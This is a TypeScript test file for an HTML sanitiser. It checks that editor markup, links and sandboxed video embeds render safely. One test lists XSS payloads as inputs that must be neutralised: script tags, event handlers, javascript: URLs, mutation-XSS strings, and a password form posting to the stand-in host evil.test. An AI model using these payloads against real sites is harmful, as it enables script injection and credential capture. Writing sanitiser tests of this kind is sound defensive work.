import {
  allowedMessageSamples,
  partsOf,
  refusedMessageSamples,
  TOOLBAR_OUTPUT,
} from '@site/shared/testing/message-html';
import { safeHtml } from './safe-html';

function rendered(html: string): string {
  const box = document.createElement('div');
  box.append(safeHtml(html));
  return box.innerHTML;
}

test.each(allowedMessageSamples())('keeps $name, which the policy allows', ({ html, expected }) => {
  expect(rendered(html)).toMatch(expected);
});

test.each(refusedMessageSamples())('removes from $name what the policy refuses', (sample) => {
  expect(rendered(sample.html)).not.toMatch(sample.refused);
});

test.each(Object.entries(TOOLBAR_OUTPUT))('keeps what the button %s writes', (_button, html) => {
  if (html) expect(partsOf(rendered(html))).toEqual(expect.arrayContaining(partsOf(html)));
});

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
  '<base href="https://evil.test/"><link rel=stylesheet href="https://evil.test/x.css"><meta http-equiv=refresh content="0;url=//evil.test">',
  '<p style="background:url(https://evil.test/);position:fixed;inset:0">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<p id="root" class="x" name="y" data-x="1" aria-label="z">x</p>',
])('%s cannot run, submit, imitate the site or load from another one', (html) => {
  const clean = rendered(html);
  expect(clean).not.toMatch(
    /\son\w+=|script:|data:|<(?:script|svg|math|form|input|object|embed|base|link|meta|style|template|iframe|details)/i,
  );
  expect(clean).not.toMatch(/position|url\(|\s(?:id|class|name|data-x|aria-label)=/);
});

test('keeps HTML of the editor unchanged', () => {
  const html =
    '<p style="text-align: center;">A <strong>b</strong> <em>c</em> <span style="text-decoration: underline;">d</span></p><ul><li>e</li></ul><ol><li>f<br>g</li></ol>';
  expect(rendered(html)).toBe(html);
});

test('a link opens a new tab without an opener', () => {
  expect(rendered('<a href="https://example.org/" target="_self" rel="opener">x</a>')).toBe(
    '<a href="https://example.org/" target="_blank" rel="noopener nofollow ugc">x</a>',
  );
});

test('a player is in a sandbox without the navigation of the page', () => {
  const player = 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ';
  expect(rendered(`<iframe src="${player}"></iframe>`)).toContain(
    'sandbox="allow-scripts allow-same-origin allow-presentation"',
  );
});
